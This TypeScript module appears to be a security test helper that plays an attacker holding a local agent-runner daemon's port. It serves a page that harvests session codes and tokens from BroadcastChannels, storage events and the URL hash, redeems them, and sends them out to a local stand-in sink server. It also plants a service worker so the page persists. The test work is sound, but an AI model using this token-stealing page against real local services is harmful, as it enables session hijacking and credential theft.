import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { text } from "node:stream/consumers";

/** What an attacker who has the daemon's port leaves in the browser, and what it gets by that. */
export interface PortTaker extends AsyncDisposable {
  /** Codes and tokens that its page or worker got hold of. */
  readonly stolen: readonly string[];
  /** Each request that reached the port, with all that it carried. */
  readonly received: readonly string[];
  /** Listens on the daemon's port, on both loopback addresses, until you call the returned function. */
  take(port: number): Promise<() => Promise<void>>;
}

// The page listens on every channel the product ever used, asks for the token, and uses each code it sees. The worker
// answers every navigation with this page, so the code in the address reaches it too.
const PAGE = (sink: string): string => `<!doctype html><title>taken</title><script>
const sink = (what) => fetch(${JSON.stringify(sink)} + "/?" + encodeURIComponent(what), { mode: "no-cors" });
const redeem = async (code) => {
  const answer = await fetch("/api/session", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ code }) }).catch(() => undefined);
  if (answer?.ok) sink("token " + (await answer.json()).token);
  return answer?.status;
};
const hear = (text) => {
  const code = /"?code"?[=:]"?([\\w-]{43})/.exec(text)?.[1];
  if (code) { sink("code " + code); redeem(code); }
  const token = /"token":"([^"]+)"/.exec(text)?.[1];
  if (token) sink("token " + token);
};
hear(location.hash);
for (const name of ["agent-runner-session", "agent-runner-codes"]) {
  const channel = new BroadcastChannel(name);
  channel.onmessage = ({ data }) => hear(JSON.stringify(data));
  setInterval(() => { channel.postMessage("who-is-in"); channel.postMessage({ ask: "taker" }); }, 20);
}
addEventListener("storage", ({ newValue }) => hear(JSON.stringify({ token: newValue })));
window.redeem = redeem;
navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "lingers"; });
</script>`;

const worker = (page: string): string => `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate") {
    event.respondWith(new Response(${JSON.stringify(page)}, { headers: { "content-type": "text/html" } }));
  }
});
`;

export async function openPortTaker(): Promise<PortTaker> {
  const stolen: string[] = [];
  const received: string[] = [];
  const sink = createServer((request, response) => {
    stolen.push(decodeURIComponent(request.url ?? ""));
    response.end();
  }).listen(0, "127.0.0.1");
  await once(sink, "listening");
  const address = sink.address();
  const port = typeof address === "object" ? (address?.port ?? 0) : 0;
  const page = PAGE(`http://127.0.0.1:${port}`);
  return {
    stolen,
    received,
    async take(taken) {
      const servers = ["127.0.0.1", "::1"].map((host) =>
        createServer((request, response) => {
          const { method, url, rawHeaders } = request;
          void text(request).then((body) =>
            received.push([method, url, ...rawHeaders, body].join(" ")),
          );
          const isWorker = request.url === "/sw.js";
          response.setHeader("content-type", isWorker ? "text/javascript" : "text/html");
          response.end(isWorker ? worker(page) : page);
        }).listen(taken, host),
      );
      await Promise.all(servers.map((server) => once(server, "listening")));
      return async () => {
        await Promise.all(servers.map(close));
      };
    },
    [Symbol.asyncDispose]: () => close(sink),
  };
}

async function close(server: Server): Promise<void> {
  const closed = once(server, "close");
  server.close();
  server.closeAllConnections();
  await closed;
}
